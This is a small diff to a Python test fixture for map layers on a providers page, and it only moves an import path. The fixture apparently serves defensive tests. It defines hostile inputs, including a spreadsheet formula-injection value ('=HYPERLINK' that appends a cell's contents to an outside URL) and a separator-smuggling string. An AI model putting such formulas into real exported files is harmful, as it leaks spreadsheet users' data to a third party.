@@ -1,7 +1,8 @@
 """Layers of the small city that somebody serves, for the page of providers."""
 
 from shapely.geometry import LineString, Point
-from small_city import BOUNDS, HOSTILE, make_layer
+
+from tests.app.small_city import BOUNDS, HOSTILE, make_layer
 
 FORMULA = '=HYPERLINK("https://example.org/"&A1)'
 UNLISTED = ["A;B", HOSTILE, FORMULA]
